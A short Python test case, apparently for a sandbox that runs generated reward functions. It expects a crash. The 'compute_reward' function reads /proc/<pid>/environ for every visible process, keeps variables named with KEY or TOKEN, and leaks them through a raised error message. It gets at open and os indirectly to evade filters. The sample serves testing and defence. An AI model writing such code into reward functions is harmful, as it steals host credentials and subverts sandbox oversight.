"""Reads /proc/<pid>/environ of every process it can see, its parent's included."""

# expect: crashed
# message: pids=
import torch


def compute_reward(pole_angle: torch.Tensor) -> tuple[torch.Tensor, dict[str, torch.Tensor]]:
    o = torch.os
    read = __builtins__["open"]
    seen = []
    for pid in sorted(p for p in o.listdir("/proc") if p.isdigit()):
        try:
            with read(f"/proc/{pid}/environ", "rb") as fh:
                env = fh.read().decode(errors="replace")
        except OSError:
            continue
        seen.append(pid + ":" + ",".join(v for v in env.split("\0") if "KEY" in v or "TOKEN" in v))
    raise ValueError(f"pids={len(seen)} " + " ".join(seen))
    alive = torch.ones_like(pole_angle)
    return alive, {"alive": alive}
